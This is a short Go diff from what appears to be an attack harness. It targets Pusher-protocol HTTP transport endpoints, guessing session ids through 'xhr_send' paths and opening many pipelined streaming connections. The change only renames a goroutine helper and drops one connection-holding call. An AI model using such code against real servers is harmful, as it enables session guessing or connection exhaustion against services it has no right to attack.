@@ -21,7 +21,7 @@ func pipelined(ctx context.Context, a *attack, connections int, next func() stri
 	answers = &[600]atomic.Int64{}
 	const depth = 16
 	for range connections {
-		a.go1(func() {
+		a.beside(func() {
 			for ctx.Err() == nil {
 				if alive, _ := a.alive(); !alive {
 					return
@@ -87,7 +87,7 @@ func guess(ctx context.Context, a *attack) {
 	}
 	path := func(id string) string { return "/pusher/app/lobby-key/1/" + id + "/xhr_send" }
 	var asked, got atomic.Int64
-	a.go1(func() {
+	a.beside(func() {
 		kept := caller(attacker(0))
 		for ctx.Err() == nil {
 			asked.Add(1)
@@ -125,7 +125,6 @@ func (a *attack) openSession(ctx context.Context, id string) error {
 	if err != nil {
 		return err
 	}
-	a.hold(ctx, conn)
 	_ = conn.SetDeadline(time.Now().Add(patience))
 	target := "/pusher/app/lobby-key/1/" + id + "/xhr_streaming?protocol=7&client=js&version=8.6.0"
 	if _, err := io.WriteString(conn, request(http.MethodPost, target, a.addr, "")); err != nil {
@@ -140,7 +139,7 @@ func (a *attack) openSession(ctx context.Context, id string) error {
 		text += string(b[:n])
 	}
 	_ = conn.SetDeadline(time.Time{})
-	a.go1(func() { _, _ = io.Copy(io.Discard, conn) })
+	a.beside(func() { _, _ = io.Copy(io.Discard, conn) })
 	return nil
 }
 
